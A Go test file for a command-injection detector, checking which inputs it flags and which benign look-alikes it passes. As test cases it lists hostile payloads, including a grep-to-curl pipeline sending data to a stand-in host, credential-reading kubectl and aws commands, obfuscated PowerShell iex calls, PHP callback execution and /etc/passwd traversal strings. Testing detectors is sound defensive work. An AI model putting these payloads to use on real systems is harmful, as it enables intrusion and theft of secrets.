package detect

import (
	"strings"
	"testing"
)

// TestCodeExecCalls checks code execution reached through PHP callbacks
// (a command function named as a string argument of a function that calls
// what it is given), request data handed to a variable function, and
// Node's process internals, with the ordinary calls that share the names.
func TestCodeExecCalls(t *testing.T) {
	d := mustNew(t, Config{})
	cases := []struct{ name, in, want string }{
		{"call_user_func", "call_user_func('system','id')", "cmdi.code_exec"},
		{"call_user_func_array", `call_user_func_array("passthru",array("id"))`, "cmdi.code_exec"},
		{"array_map", "array_map('shell_exec', array('id'))", "cmdi.code_exec"},
		{"array_filter second argument", "array_filter(array('id'), 'system')", "cmdi.code_exec"},
		{"usort with assert", "usort($a, 'assert')", "cmdi.code_exec"},
		{"shutdown hook", "register_shutdown_function('exec', 'id')", "cmdi.code_exec"},
		{"variable function after an assignment", "$f=$_GET['f'];$f($_GET['a']);", "cmdi.code_exec"},
		{"node internals", "process.binding('spawn_sync').spawn(o)", "cmdi.code_exec"},
		{"callback of a plain function", "array_map('trim', $lines)", ""},
		{"callback name containing system", "call_user_func('my_system', 1)", ""},
		{"comparator", "usort($a, 'strcmp')", ""},
		{"request data assigned", "$name = $_GET['name'];", ""},
		{"prose", "array_map is like map; system is a word", ""},
		{"book binding", "the binding (of the book) is loose", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := cmdiRule(d, c.in); got != c.want {
				t.Errorf("Scan(%q): command injection rule %q, want %q", c.in, got, c.want)
			}
		})
	}
}

// TestCommandLineProse checks whole values that start with a command and
// an option: a command line, or a sentence about the command.
func TestCommandLineProse(t *testing.T) {
	d := mustNew(t, Config{})
	cases := []struct{ name, in, want string }{
		{"options and a path", "ls -la /tmp", "cmdi.command"},
		{"option and a user", "sudo -u root id", "cmdi.command"},
		{"option alone", "uname -a", "cmdi.command"},
		{"option and a number", "kill -9 1", "cmdi.command"},
		{"sentence", "ls -la is a command", ""},
		{"sentence with a full stop", "grep -r finds it in every file.", ""},
		{"sentence after a path", "cat /etc/hosts shows the names", ""},
		{"two words starting with a verb", "rm -rf is dangerous", ""},
		{"two words starting with a modal", "kill -9 should work", ""},
		{"two arguments after the option, system paths", "rm -rf /var/www /tmp/x", "cmdi.command"},
		{"two arguments after the option, project paths", "rm -rf build dist", ""},
		{"a ticket's command line", "kubectl get pods -n prod", ""},
		{"archive in the project", "tar -xzf release.tar.gz", ""},
		{"closed off", "tar -xzf release.tar.gz;", "cmdi.command"},
		{"pipeline of a quoted command line", "git log --oneline | head -5", ""},
		{"pipeline into a network tool", "grep -r key . | curl -d @- http://x.example", "cmdi.separator"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := cmdiRule(d, c.in); got != c.want {
				t.Errorf("Scan(%q): command injection rule %q, want %q", c.in, got, c.want)
			}
		})
	}
}

// TestQuoteBreakLead checks a value that leads with the quote ending the
// application's string and then a separator: what follows is judged as a
// command line of its own.
func TestQuoteBreakLead(t *testing.T) {
	d := mustNew(t, Config{})
	cases := []struct{ name, in, want string }{
		{"single quote", "';ip a;'", "cmdi.separator"},
		{"double quote, spaced", "\" | ps aux", "cmdi.separator"},
		{"quoted sentence", "\"; see you\"", ""},
		{"apostrophe", "'; and so on'", ""},
		{"quote then text", "'ip a'", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := cmdiRule(d, c.in); got != c.want {
				t.Errorf("Scan(%q): command injection rule %q, want %q", c.in, got, c.want)
			}
		})
	}
}

// TestBinDirWords checks that the name each directory of binDirs ends
// with is a gate word (binDirWords), so that the command-injection gate
// opens for a command path in it ("/opt/w" is cmdi.binary_path with and
// without the gates), and that a bare command path in each is flagged.
func TestBinDirWords(t *testing.T) {
	d := mustNew(t, Config{})
	for _, dir := range binDirs {
		name := dir[:len(dir)-1]
		for i := len(name) - 1; i >= 0; i-- {
			if name[i] == '/' || name[i] == '\\' {
				name = name[i+1:]
				break
			}
		}
		if lookup(keywordIndex(), name)&gBinDir == 0 {
			t.Errorf("binDirs has %q, whose name %q is not in binDirWords", dir, name)
		}
		s := dir + "w"
		if !hasCategory(d.Scan(nil, s, Input{Kind: Value}), CmdI) {
			t.Errorf("%q: no cmdi match", s)
		}
		gateCheck(t, d, s, Input{Kind: Value})
	}
}

// TestSeparatorWords checks everyday words that are command names too
// ("true", "date", "file") in lists and sentences, where they are data,
// against the same words after a separator in a probe.
func TestSeparatorWords(t *testing.T) {
	d := mustNew(t, Config{})
	cases := []struct{ name, in, want string }{
		{"glued pipe list", "true|false", ""},
		{"glued semicolon list", "yes;no", ""},
		{"file name with separators", "my;file;name.txt", ""},
		{"word then a spaced semicolon", "Monday; date", ""},
		{"status then a word", "done; test", ""},
		{"one-letter command glued", "a;w", "cmdi.separator"},
		{"after an address", "127.0.0.1; date", "cmdi.separator"},
		{"glued on both sides", "x;uname;", "cmdi.separator"},
		{"data URL", "data:image/png;base64,iVBOR", ""},
		{"data URL with a parameter", "data:image/jpeg;name=a.jpg;base64,/9j/4AAQ", ""},
		{"data URL then a command", "data:image/png;base64,x;id", "cmdi.separator"},
		{"never-prose command", "x|id", "cmdi.separator"},
		{"after a reserved word", ";for i in 1; do id; done", "cmdi.separator"},
		{"reserved word in prose", "I do; then we go", ""},
		{"Windows query", "& query user", "cmdi.separator"},
		{"Windows route", "& route print", "cmdi.separator"},
		{"route in prose", "Route 66 & route planner", ""},
		{"PowerShell call of a concatenation", "; &('ie'+'x') 'whoami'", "cmdi.powershell"},
		{"PowerShell dot-call", "; . ('i'+'ex') whoami", "cmdi.powershell"},
		{"call of one string", "&(\"whoami\")", "cmdi.powershell"},
		{"abbreviation and a parenthesis", "e.g. ('quoted')", ""},
		{"names in parentheses", "Tom & ('Jerry')", ""},
		{"concatenation of words", "x & ('a'+'b')", ""},
		{"command and a line break", "id\n", "cmdi.command"},
		{"word and a line break", "thanks\n", ""},
		{"everyday command and a line break", "test\n", ""},
		{"list of tools", "node;deno;bun", ""},
		{"list of verbs", "eat|sleep|code", ""},
		{"two-letter command in a list", "x;id;y", "cmdi.separator"},
		{"code span then punctuation", "The answer is `yes`; obviously", ""},
		{"AWS CLI operation", ";aws sts get-caller-identity", "cmdi.separator"},
		{"AWS CLI s3", "; aws s3 ls", "cmdi.separator"},
		{"kubectl", ";kubectl get secrets", "cmdi.separator"},
		{"AWS in a list", "Skills: Go | Docker | AWS", ""},
		{"AWS in a sentence", "moved to aws; cost went down", ""},
		{"AWS event name", "AWS re:Invent | Las Vegas", ""},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			ms := d.Scan(nil, c.in, Input{Kind: Value})
			if c.want == "" && len(ms) != 0 || c.want != "" && !hasRule(ms, c.want) {
				t.Errorf("Scan(%q) = %v, want %q", c.in, ms, c.want)
			}
		})
	}
}

// cmdiRule scans s as a value and returns the rule of its last command
// injection match ("" for none).
func cmdiRule(d *Detector, s string) string {
	got := ""
	for _, m := range d.Scan(nil, s, Input{Kind: Value}) {
		if m.Category == CmdI {
			got = m.Rule
		}
	}
	return got
}

// TestHasPair checks hasPair (commandAt's test of the separator run for
// "$(", "&&" and "||") against indexFrom, which it replaces, on every
// string of up to 5 bytes over an alphabet of the bytes involved.
func TestHasPair(t *testing.T) {
	alpha := []byte("$(&| x")
	pairs := []string{"$(", "&&", "||", "(&", " x"}
	buf := make([]byte, 0, 5)
	var walk func(n int)
	checked := 0
	walk = func(n int) {
		for _, p := range pairs {
			want := indexFrom(buf, p, 0) >= 0
			if got := hasPair(buf, p[0], p[1]); got != want {
				t.Fatalf("hasPair(%q, %q) = %v, indexFrom says %v", buf, p, got, want)
			}
			checked++
		}
		if n == 0 {
			return
		}
		for _, c := range alpha {
			buf = append(buf, c)
			walk(n - 1)
			buf = buf[:len(buf)-1]
		}
	}
	walk(5)
	if checked < 5*9331 {
		t.Fatalf("checked %d cases", checked)
	}
}

// TestCmdTabView checks the second reading of a value with tabs
// (detectCmdI reads them as spaces): it finds what the spaced value has,
// and leaves the state as it found it — the normalised value the later
// detectors read (held in a normalisation buffer the shell grammars must
// not take as scratch), its classes and features.
func TestCmdTabView(t *testing.T) {
	for _, tc := range []struct {
		in   string
		rule string // "" when nothing is to be found
	}{
		{";aws sts\tget-caller-identity", "cmdi.separator"},
		{"&\techo\ttest", "cmdi.separator"},
		{"'\twhoami", "cmdi.quote_break"},
		{"%26%09echo%09test", "cmdi.separator"},     // decoded into a buffer
		{"X;\tGO HOME\t..%2F..%2Fetc%2Fpasswd", ""}, // decoded, nothing for cmdi
		{"Name\tAge;\tCity ../../etc/passwd", ""},   // case folded into a buffer
		{"name\tage\tcity", ""},
		{"x%3B%09go%09home ..%2F..%2Fetc%2Fpasswd", ""},             // decoded in one round
		{"x%253B%2509go%2509home ..%252F..%252Fetc%252Fpasswd", ""}, // in two rounds: the other buffer
	} {
		t.Run(tc.in, func(t *testing.T) {
			for _, fresh := range []bool{true, false} {
				st := new(state)
				if !fresh {
					// both normalisation buffers left large by an earlier scan
					// decoded in two rounds
					st.prepare(strings.Repeat("Ab%2541 ", 64), classify(strings.Repeat("Ab%2541 ", 64)), Input{})
					st.f, st.kw, _ = features(bufString(st.n), keywordIndex())
					detectCmdI(st)
				}
				cls := classify(tc.in)
				st.prepare(tc.in, cls, Input{})
				st.f, st.kw, _ = features(bufString(st.n), keywordIndex())
				n, c, f, kw := string(st.n), st.cls, st.f, st.kw
				h := detectCmdI(st)
				if h.rule != tc.rule {
					t.Errorf("fresh=%v: rule %q, want %q", fresh, h.rule, tc.rule)
				}
				if string(st.n) != n || st.cls != c || st.f != f || st.kw != kw || st.raw != tc.in {
					t.Errorf("fresh=%v: state changed: n %q -> %q", fresh, n, st.n)
				}
			}
		})
	}
}

// codeExecRef is codeExec as it searched for each name in turn: the
// first qualifying place of the first name in the list that has one.
func codeExecRef(b []byte) hit {
	if i := indexFrom(b, "<?php", 0); i >= 0 {
		return hit{rule: "cmdi.php", frag: around(b, i, i+32)}
	}
	for _, f := range codeExecNames {
		for from := 0; ; {
			i := indexFrom(b, f, from)
			if i < 0 {
				break
			}
			from = i + 1
			if codeExecAt(b, i, f) {
				return hit{rule: "cmdi.code_exec", frag: around(b, i, i+32)}
			}
		}
	}
	return hit{}
}

// FuzzCodeExec compares codeExec, one pass over the '(' of the text,
// with codeExecRef.
func FuzzCodeExec(f *testing.F) {
	for _, s := range []string{"(system('id')", "eval($x) exec('a') system(\"b\")", "x.exec(y) shell.exec('z')", "phpinfo() popen('x')",
		"obj.send(:system, 'id') child_process", "subprocess.run os.popen(x", "((((((", "returnexec('a') winexec(\"b\")",
		strings.Repeat("expression(", 20) + "assert($a)", "(exec(`id`)", "passthru ( $c )", "eval(base64_decode('x'))"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		b := []byte(s)
		got, want := codeExec(b), codeExecRef(b)
		if got.rule != want.rule || string(got.frag) != string(want.frag) {
			t.Fatalf("codeExec(%q) = %s %q, want %s %q", s, got.rule, got.frag, want.rule, want.frag)
		}
	})
}

// TestCodeExecRef compares codeExec with codeExecRef on texts made of the
// names, their arguments and what surrounds them, many names in one text.
func TestCodeExecRef(t *testing.T) {
	pieces := append(codeExecNames[:], "'x')", "$a)", "(", " ", "x", ".", "`id`)", "a", "_", "shell.", "base64_decode(", "\"", "((")
	r := uint32(1)
	next := func(n int) int {
		r ^= r << 13
		r ^= r >> 17
		r ^= r << 5
		return int(r % uint32(n))
	}
	hits := 0
	for k := 0; k < 30000; k++ {
		var sb strings.Builder
		for m := 1 + next(8); m > 0; m-- {
			sb.WriteString(pieces[next(len(pieces))])
		}
		b := []byte(sb.String())
		got, want := codeExec(b), codeExecRef(b)
		if got.rule != want.rule || string(got.frag) != string(want.frag) {
			t.Fatalf("codeExec(%q) = %s %q, want %s %q", b, got.rule, got.frag, want.rule, want.frag)
		}
		if got.rule != "" {
			hits++
		}
	}
	if hits < 3000 {
		t.Errorf("only %d of the texts are code execution: the comparison reads mostly misses", hits)
	}
}

// TestSSIDirectives compares cmdScan's server-side include search (one
// search of "<!--#") with a search for each directive in turn, on texts
// of several directives.
func TestSSIDirectives(t *testing.T) {
	ref := func(b []byte) hit {
		for _, d := range ssiDirectives {
			if i := indexFrom(b, "<!--#"+d, 0); i >= 0 {
				return hit{rule: "cmdi.ssi", frag: around(b, i, i+40)}
			}
		}
		return hit{}
	}
	pieces := []string{"<!--#exec", "<!--#include", "<!--#echo", "<!--#config", "<!--#printenv", "<!--#", "<!--", "<", " x ", "cmd=\"id\" -->", "<!--#ex"}
	r := uint32(7)
	hits := 0
	for k := 0; k < 20000; k++ {
		var sb strings.Builder
		for m := 1 + int(r%6); m > 0; m-- {
			r ^= r << 13
			r ^= r >> 17
			r ^= r << 5
			sb.WriteString(pieces[r%uint32(len(pieces))])
		}
		b := []byte(sb.String())
		got, want := cmdScan(b, classify(bufString(b))), ref(b)
		if want.rule != "" && (got.rule != want.rule || string(got.frag) != string(want.frag)) {
			t.Fatalf("cmdScan(%q) = %s %q, want %s %q", b, got.rule, got.frag, want.rule, want.frag)
		}
		if want.rule != "" {
			hits++
		}
	}
	if hits < 5000 {
		t.Errorf("only %d texts hold a directive", hits)
	}
}

// FuzzByteFrom: byteFrom finds what indexFrom finds for a one-byte
// literal, from every start.
func FuzzByteFrom(f *testing.F) {
	f.Add("((a(b", byte('('))
	f.Add("x:y::", byte(':'))
	f.Fuzz(func(t *testing.T, s string, c byte) {
		b := []byte(s)
		for from := 0; from <= len(b)+1; from++ {
			if got, want := byteFrom(b, from, c), indexFrom(b, string([]byte{c}), from); got != want {
				t.Fatalf("byteFrom(%q, %d, %q) = %d, indexFrom %d", s, from, c, got, want)
			}
		}
	})
}

// TestPHPDirectiveNames: phpInjection asks phpDirective only for a value
// with a '_' (kUnder): every directive it knows has one.
func TestPHPDirectiveNames(t *testing.T) {
	for _, d := range phpDirectives {
		t.Run(d, func(t *testing.T) {
			if !strings.Contains(d, "_") {
				t.Fatalf("php directive %q has no '_': phpInjection's kUnder gate would skip it", d)
			}
		})
	}
}
